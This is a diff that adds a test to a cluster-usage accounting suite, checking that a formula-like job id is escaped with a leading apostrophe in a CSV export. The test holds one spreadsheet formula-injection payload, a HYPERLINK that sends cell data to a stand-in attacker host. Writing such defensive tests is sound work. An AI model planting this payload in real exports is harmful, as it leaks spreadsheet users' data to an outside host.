@@ -57,6 +57,19 @@ def test_hours_are_clipped_to_the_window_and_summed_per_owner_and_group(alice, b
     ]
 
 
+def test_a_job_id_a_spreadsheet_would_run_is_text_in_the_csv(alice):
+    """A user picks their cluster's job id: one that starts like a formula gets a leading ' (a spreadsheet that
+    opens the accounting export shows it, and runs nothing)."""
+    payload = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    c = make_cluster(alice, name="c", state="torn_down")
+    VirtualCluster.objects.filter(pk=c.pk).update(created_at=_at(1), ended_at=_at(2), job_id=payload)
+    d = make_cluster(alice, name="d", state="torn_down")
+    VirtualCluster.objects.filter(pk=d.pk).update(created_at=_at(1), ended_at=_at(2), job_id="12345.pbs")
+    rows = _usage("--since", "2026-11-01T00:00Z", "--until", "2026-11-02T00:00Z", "--by", "cluster")
+    assert {r["name"]: r["job_id"] for r in rows} == {"c": "'" + payload, "d": "12345.pbs"}
+    assert rows[0]["cluster_hours"] == "1.0"
+
+
 def test_a_live_cluster_counts_until_now_and_a_removed_nodes_time_is_kept(fabric_live):
     cluster, _node = fabric_live
     rows = _usage("--since", (timezone.now() - timedelta(hours=2)).isoformat(), "--by", "cluster")
